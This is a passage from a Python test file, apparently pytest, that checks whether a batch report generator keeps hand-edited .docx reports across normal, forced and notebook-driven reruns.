    assert first.status == "完成", first.failure
    mine = _edit(first.folder / REPORT)
    same = run_batch(tmp_path / "p.csv", tmp_path / "out").outcomes[0]
    assert same.status == "未变化"
    assert (first.folder / REPORT).read_bytes() == mine
    again = run_batch(tmp_path / "p.csv", tmp_path / "out", force=True).outcomes[0]
    assert again.status == "完成", again.failure
    kept = [p for p in first.folder.glob("*.docx") if p.read_bytes() == mine]
    assert len(kept) == 1
    assert any(REPORT in note and kept[0].name in note for note in again.notes)
    assert (first.folder / REPORT).read_bytes() != mine


def test_a_report_edited_by_hand_survives_a_notebook_run_without_a_batch(small, tmp_path):
    report = _deliver(small, tmp_path / "out")["评价报告"]
    mine = _edit(report)
    _deliver(small, tmp_path / "out")
    assert mine in [p.read_bytes() for p in (tmp_path / "out").glob("*.docx")]
